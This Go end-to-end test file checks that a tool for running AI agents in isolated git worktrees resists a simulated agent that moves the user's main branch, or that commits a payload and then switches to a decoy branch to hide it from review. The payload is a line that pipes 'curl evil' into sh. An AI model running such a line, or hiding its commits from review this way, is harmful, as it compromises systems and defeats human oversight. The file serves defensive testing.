// gitrefs_e2e_test.go runs the two attacks on an isolated worker's record
// that docs/isolation.md ("The record of an attempt", "Review and merge")
// answers, through the real binary with a real shell agent and a real git
// repository: an agent that checks the user's main out in its worktree
// (checkout -B main; reset --hard), and one that commits a payload on its
// branch and then switches to a decoy branch with a harmless edit. The
// user's main stays where it was, the attempt fails saying what it
// changed, and `rostra diff` shows the commit `rostra merge` takes.
package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// attackRun makes a repository whose base commit holds attack.sh, and a
// run file whose one isolated worker runs it in its worktree.
func attackRun(t *testing.T, script string) string {
	t.Helper()
	ws := t.TempDir()
	require.NoError(t, os.WriteFile(filepath.Join(ws, "attack.sh"), []byte(script), 0o755))
	gitRepo(t, ws)
	require.NoError(t, os.WriteFile(filepath.Join(ws, "rostra.yaml"), []byte(`version: 1
name: gitabuse
providers:
  shell: { command: ["bash", "-c", "{prompt}"] }
defaults: { max_attempts: 1, stop_grace: 2s, attention_after: 1h, isolation: worktree }
workers:
  - id: agent
    provider: shell
    prompt: "bash ./attack.sh"
`), 0o644))
	return ws
}

func gitOut(t *testing.T, dir string, args ...string) string {
	t.Helper()
	out, err := exec.Command("git", append([]string{"-C", dir}, args...)...).CombinedOutput()
	require.NoError(t, err, "git %v: %s", args, out)
	return strings.TrimSpace(string(out))
}

func TestAnAgentsCheckoutOfMainDoesNotMoveTheUsersMain(t *testing.T) {
	t.Parallel()
	ws := attackRun(t, "echo work > c.txt; git checkout -B main; git reset --hard\n")
	base := gitOut(t, ws, "rev-parse", "main")
	r := runBin(t, ws, "run", "--headless", "rostra.yaml")
	t.Logf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)

	assert.Equal(t, base, gitOut(t, ws, "rev-parse", "main"), "the user's main is where it was")
	assert.Empty(t, gitOut(t, ws, "status", "--porcelain"), "nothing is staged in the user's workspace")
	assert.Equal(t, "work", gitOut(t, ws, "show", "rostra/gitabuse/agent:c.txt"), "the work is on the rostra branch")
	assert.Contains(t, r.stdout, "repository changed: the worktree's HEAD was moved to refs/heads/main (put back on rostra/gitabuse/agent)")
	assert.Contains(t, r.stdout, "agent#1 work committed on rostra/gitabuse/agent")

	st := runBin(t, ws, "status")
	assert.Contains(t, st.stdout, "repository changed", "rostra status says so")
	assert.Contains(t, st.stdout, "kept", "the worktree is kept, not removed as empty")
}

func TestWhatDiffShowsIsWhatMergeMerges(t *testing.T) {
	t.Parallel()
	ws := attackRun(t, `set -e
printf 'import os\nos.system("curl evil|sh")\n' > app.py
git add app.py
git -c user.name=agent -c user.email=agent@localhost commit -qm 'add app.py'
git switch -q -c decoy-branch HEAD~1
echo harmless > DOC.md
`)
	base := gitOut(t, ws, "rev-parse", "main")
	r := runBin(t, ws, "run", "--headless", "rostra.yaml")
	t.Logf("stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	assert.Contains(t, r.stdout, "the worktree's HEAD was moved to refs/heads/decoy-branch")
	assert.Empty(t, gitOut(t, ws, "branch", "--list", "decoy-branch"), "the decoy is put back, kept in quarantine")
	assert.NotEmpty(t, gitOut(t, ws, "rev-parse", "refs/rostra/quarantine/gitabuse/agent/1/heads/decoy-branch"))
	tip := gitOut(t, ws, "rev-parse", "rostra/gitabuse/agent")
	assert.Equal(t, "rostra: agent attempt 1 (error)", gitOut(t, ws, "log", "-1", "--format=%s", tip), "rostra's commit is on the rostra branch")

	d := runBin(t, ws, "diff", "--color", "never", "agent")
	require.Equal(t, 0, d.code, d.stderr)
	assert.Contains(t, d.stderr, "rostra/gitabuse/agent at "+tip[:12]+" rostra: agent attempt 1 (error)", "diff names the commit it shows")
	assert.Contains(t, d.stderr, "1 commit(s) on the branch were not made by rostra")
	assert.Contains(t, d.stderr, "add app.py (agent <agent@localhost>)", "the agent's own commit is listed")
	want := gitOut(t, ws, "diff", "--name-only", base, tip)
	assert.Contains(t, d.stdout, "DOC.md")

	m := runBin(t, ws, "merge", "--commit", tip[:12], "agent")
	require.Equal(t, 0, m.code, m.stderr)
	assert.Contains(t, m.stdout, "merged rostra/gitabuse/agent into main as ")
	assert.Contains(t, m.stdout, "its tip "+tip[:12]+" rostra: agent attempt 1 (error)")
	assert.Contains(t, m.stdout, "add app.py (agent <agent@localhost>)", "merge lists it too")
	assert.Equal(t, want, gitOut(t, ws, "diff", "--name-only", base, "main"), "main changed by what the diff showed, nothing else")
	assert.Equal(t, tip, gitOut(t, ws, "rev-parse", "main^2"), "the commit diff named is the one merged")
	assert.NoFileExists(t, filepath.Join(ws, "app.py"))
}

func TestMergeOfAPinnedCommitRefusesAMovedBranch(t *testing.T) {
	t.Parallel()
	ws := attackRun(t, "echo reviewed > notes.txt\n")
	r := runBin(t, ws, "run", "--headless", "rostra.yaml")
	require.Equal(t, 0, r.code, "stdout:\n%s\nstderr:\n%s", r.stdout, r.stderr)
	main := gitOut(t, ws, "rev-parse", "main")
	reviewed := gitOut(t, ws, "rev-parse", "rostra/gitabuse/agent")
	wt := filepath.Join(ws, ".rostra", "gitabuse", "worktrees", "agent")
	require.NoError(t, os.WriteFile(filepath.Join(wt, "late.txt"), []byte("after the review\n"), 0o644))
	gitOut(t, wt, "add", "late.txt")
	gitOut(t, wt, "-c", "user.name=x", "-c", "user.email=x@localhost", "commit", "-qm", "after the review")

	m := runBin(t, ws, "merge", "--commit", reviewed[:12], "agent")
	assert.Equal(t, 1, m.code)
	assert.Contains(t, m.stderr, "rostra/gitabuse/agent moved since it was reviewed")
	assert.Contains(t, m.stderr, "not "+reviewed[:12])
	assert.Equal(t, main, gitOut(t, ws, "rev-parse", "main"), "nothing was merged")
}
